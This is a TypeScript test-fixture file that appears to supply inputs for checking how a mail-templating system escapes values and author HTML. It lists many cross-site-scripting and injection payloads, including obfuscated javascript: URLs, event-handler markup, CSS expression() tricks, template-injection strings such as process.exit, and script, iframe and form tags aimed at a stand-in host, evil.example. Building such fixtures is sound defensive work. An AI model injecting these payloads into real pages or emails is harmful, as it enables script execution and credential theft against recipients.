/** Attempts to get code into a mail: the usual ones, for every place where a value or an author's HTML can stand. */

/** As values of variables. */
export const hostileValues: readonly string[] = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
  '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '--><script>alert(1)</script>', '<!--<img src="--><img src=x onerror=alert(1)//">', '<svg/onload=alert(1)>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>', '<iframe srcdoc="<script>alert(1)</script>">', '<base href="javascript://">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\r\nscript:alert(1)', '\x01javascript:alert(1)', 'java\x00script:alert(1)',
  'java\u00adscript:alert(1)', 'java\u200bscript:alert(1)', '\ufeffjavascript:alert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript&#58;alert(1)', 'javascript%3Aalert(1)', 'jav&#x09;ascript:alert(1)',
  'vbscript:msgbox(1)', 'VBSCRIPT:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>', 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:image/png;base64,AAAA" onload="alert(1)', 'livescript:alert(1)', 'mocha:alert(1)', 'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'blob:https://evil.example/1', 'filesystem:https://evil.example/x', 'about:blank#javascript:alert(1)', '//evil.example', '\\\\evil.example', 'https:evil.example',
  'red;background:url(javascript:alert(1))', 'expression(alert(1))', 'url(javascript:alert(1))', 'red}body{display:none', 'red;position:fixed;top:0', '#fff/*', 'var(--x)', '\\65xpression(alert(1))', 'red" onclick="alert(1)', "Arial';color:red;x:'", 'attr(onclick)', 'image-set("javascript:alert(1)" 1x)',
  '<%= process.exit(1) %>', '<% throw new Error(1) %>', '%><%~ it %>', '${alert(1)}', '`${alert(1)}`', '");alert(1);("', "'+alert(1)+'", '\\");alert(1)//', '\u2028alert(1)\u2029', '{{constructor.constructor("alert(1)")()}}', '{{__proto__}}',
  '\ud800', '\udfff<b>', '<\u0000script>alert(1)</script>', '\u{1f600}<i>', '&lt;script&gt;alert(1)&lt;/script&gt;', ']]><script>alert(1)</script>', '<![endif]--><script>alert(1)</script>', '<!--[if mso]><script>alert(1)</script><![endif]-->',
];

/** As HTML of an author, in rich text and fragments. */
export const hostileMarkup: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src=x onerror=alert(1)>', '<img src="javascript:alert(1)">', '<img src="{{js}}">', '<img src=`x`onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;&#97;vascript:alert(1)">x</a>', '<a href="{{js}}">x</a>', '<a href="java{{script}}:alert(1)">x</a>', '<a href="{{a}}{{b}}">x</a>', '<a href="{{a}}script:alert(1)">x</a>', '<a href=" {{js}}">x</a>', '<a href="&#9;{{js}}">x</a>', '<a href="data:text/html,{{x}}">x</a>', '<a href="vbscript:{{x}}">x</a>',
  '<a href="https://{{host}}/">x</a>', '<a href="{{a}}://x">x</a>', '<a onclick="alert(1)" href="https://example.com">x</a>', '<a {{attrs}}>x</a>', '<{{tag}}>x</{{tag}}>', '<a href={{js}}>x</a>', "<a href='{{quote}}'>x</a>",
  '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="color:{{css}}">x</div>', '<div style="{{css}}">x</div>', '<div style="{{prop}}:red">x</div>', '<div style="background-image:url({{js}})">x</div>', '<p style="behavior:url(x.htc)">x</p>', '<p style="-moz-binding:url(x)">x</p>', '<div style="position:fixed;top:0">x</div>',
  '<iframe src="https://evil.example"></iframe>', '<object data="x"></object>', '<embed src="x">', '<form action="https://evil.example"><input name=a></form>', '<svg><script>alert(1)</script></svg>', '<svg onload=alert(1)>', '<math href="javascript:alert(1)">x</math>', '<link rel=stylesheet href="x">', '<style>@import "x";body{display:none}</style>', '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<body onload=alert(1)>', '<video src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea><script>alert(1)</script></textarea>', '<xmp><script>alert(1)</script></xmp>', '<template><script>alert(1)</script></template>', '<title></title><script>alert(1)</script>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->', '<!-- {{x}} --><script>alert(1)</script>', '</td></tr></table></div><script>alert(1)</script>', '<p title="{{quote}}">x</p>', '<img alt="{{quote}}" src="https://example.com/a.png">', '<font color="{{css}}">x</font>', '<td bgcolor="{{css}}">x</td>', '<p id="{{quote}}" onclick>x', '<%= process.exit(1) %>', '&lt;script&gt;alert(1)&lt;/script&gt;', '<a href="//evil.example">x</a>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

/** Values for the placeholders of `hostileMarkup`. */
export const markupVariables = {
  js: 'javascript:alert(1)', a: 'java', b: 'script:alert(1)', script: 'script', x: '<script>alert(1)</script>', host: 'evil.example/x?', attrs: 'onclick=alert(1)', tag: 'script',
  quote: '" onmouseover="alert(1)" x=\'', css: 'red;background:url(javascript:alert(1))', prop: 'background:url(javascript:alert(1));color',
};
